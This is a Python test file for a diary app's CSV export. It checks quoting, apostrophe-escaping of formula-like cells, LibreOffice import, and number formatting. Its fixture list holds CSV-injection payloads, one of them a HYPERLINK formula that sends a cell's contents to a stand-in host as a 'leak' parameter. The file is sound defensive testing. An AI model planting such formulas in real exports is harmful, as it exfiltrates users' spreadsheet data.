"""Issue 12, item 8: the CSV export survives a real spreadsheet. Every field quoted; a text
cell starting like a formula (=, +, -, @, tab, CR, NUL) prefixed with an apostrophe, as
OWASP recommends; UTF-8 without a byte-order mark (LibreOffice does not need one: see the
README). Where LibreOffice is installed, the file is opened in it and every cell checked."""

import csv
import html
import os
import re
import shutil
import subprocess
import zipfile
from datetime import datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from companion.domain.entries import Entry, EntryKind
from companion.domain.text import escape_controls, has_controls
from companion.service.diary import DiaryService
from companion.service.exports import HEADER, export_csv
from companion.service.spreadsheet import FORMULA_STARTS, text_cell
from tests.storage.crafted import make_diary

NOW = datetime(2026, 6, 1, 10, 0).astimezone()

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")',
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "a; b; c, and more",  # the sample's own note split across columns in LibreOffice
    'she said "hi"\nand left',
    "plain note",
]


@pytest.fixture
def exported(tmp_path):
    """The sample diary (temperatures in °C…) with hostile notes, exported."""
    folder = tmp_path / "data"
    service = DiaryService.open(make_diary(folder), lambda: NOW)
    try:
        for n, note in enumerate(HOSTILE):
            at = NOW - timedelta(minutes=30 - n)
            if has_controls(note):  # refused at input now: as an older version stored it
                saved = service.log.add(Entry(at, EntryKind.NOTE, note="x")).value.entry
                with service.db.atomic():
                    service.db.execute(
                        "UPDATE entries SET note = ? WHERE id = ?", [note.strip(), saved.id]
                    )
            else:
                service.log.add(Entry(at, EntryKind.NOTE, note=note))
        out = tmp_path / "diary.csv"
        export_csv(service, out)
    finally:
        service.close()
    return out


@given(st.text())
def test_a_text_cell_never_starts_like_a_formula(text):
    cell = text_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    shown = escape_controls(text)  # a control character is shown, never kept
    assert cell in (shown, "'" + shown)
    assert not has_controls(cell)


def test_every_field_is_quoted_and_formulas_are_inert(exported):
    raw = exported.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # no byte-order mark
    text = raw.decode("utf-8")
    assert "°C" in text
    with exported.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == list(HEADER)
    notes = [row[-1] for row in rows[1:]][-len(HOSTILE) :]
    for typed, cell in zip(HOSTILE, notes, strict=True):
        saved = typed.strip()  # a note is saved without outer spaces, tabs and line ends
        shown = escape_controls(saved)  # a control character is shown as \\xNN
        expected = "'" + shown if saved.startswith(FORMULA_STARTS) else shown
        assert cell == expected
    # QUOTE_ALL: every field of every record opens with a quote (records end in CRLF).
    for record in re.split(r'\r\n(?=")', text.rstrip("\r\n")):
        fields = re.findall(r'(?:^|,)("(?:[^"]|"")*"|[^,]*)', record)
        assert fields and all(f.startswith('"') for f in fields), record


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
@pytest.mark.parametrize(
    "options",
    ["44,34,76,1", None],
    ids=["Calc's import settings: comma, UTF-8", "Calc's command-line defaults"],
)
def test_libreoffice_opens_every_note_as_text(exported, tmp_path, options):
    """Converted to .xlsx by LibreOffice Calc itself: no cell is a formula and no formula's
    value appears; every hostile note is a string with its apostrophe."""
    env = dict(os.environ, HOME=str(tmp_path))  # a fresh LibreOffice profile
    command = [SOFFICE, "--headless"]
    if options:
        command.append(f"--infilter=Text - txt - csv (StarCalc):{options}")
    command += ["--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(exported)]
    subprocess.run(command, check=True, capture_output=True, env=env, timeout=180)
    with zipfile.ZipFile(tmp_path / "out" / "diary.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        shared = book.read("xl/sharedStrings.xml").decode("utf-8")
    strings = [html.unescape(t) for t in re.findall(r"<t[^>]*>(.*?)</t>", shared, re.S)]
    assert "<f>" not in sheet  # no formula anywhere
    assert "Click" not in strings  # HYPERLINK never ran
    for note in ("'=1+1", "'+1", "'-1", "'@SUM(1)", "a; b; c, and more", "plain note"):
        assert note in strings  # one cell, the apostrophe showing
    assert any(s.startswith("'=HYPERLINK(") for s in strings)
    if options:  # told it is UTF-8, the units are intact
        assert "°C" in strings


def _log_and_export(tmp_path, dialect_name):
    from companion.service.counts_export import export_counts_csv
    from companion.service.spreadsheet import DIALECTS

    folder = tmp_path / "data"
    service = DiaryService.open(make_diary(folder), lambda: NOW)
    try:
        service.log.add(Entry(NOW - timedelta(minutes=5), EntryKind.WEIGHT, value=71.25))
        service.log.add(Entry(NOW - timedelta(minutes=4), EntryKind.TEMPERATURE, value=37.2))
        out, counts = tmp_path / "diary.csv", tmp_path / "counts.csv"
        export_csv(service, out, DIALECTS[dialect_name])
        export_counts_csv(service, counts, DIALECTS[dialect_name])
    finally:
        service.close()
    return out, counts


def test_the_csv_keeps_every_stored_digit(tmp_path):
    """71.25 kg stays 71.25 (it was rounded to 71.2)."""
    out, _ = _log_and_export(tmp_path, "excel")
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    values = {(row[2], row[4]) for row in rows[1:]}
    assert ("Weight", "71.25") in values
    assert ("Temperature", "37.2") in values


def test_excel_eu_writes_semicolons_and_decimal_commas(tmp_path):
    out, counts = _log_and_export(tmp_path, "excel-eu")
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert rows[0] == list(HEADER)
    values = {(row[2], row[4]) for row in rows[1:]}
    assert ("Weight", "71,25") in values and ("Temperature", "37,2") in values
    with counts.open(encoding="utf-8", newline="") as handle:
        count_rows = list(csv.reader(handle, delimiter=";"))
    assert len(count_rows[0]) > 5  # split on ';', not one long field
    assert all("." not in cell for row in count_rows[1:] for cell in row[3:9])


@given(st.floats(min_value=-1e6, max_value=1e6, allow_nan=False))
def test_a_number_reads_back_as_the_same_value(value):
    from companion.service.spreadsheet import EXCEL, EXCEL_EU

    assert float(EXCEL.number(value)) == pytest.approx(value, rel=1e-14, abs=1e-12)
    assert EXCEL_EU.number(value) == EXCEL.number(value).replace(".", ",")
    assert "e" not in EXCEL.number(value)
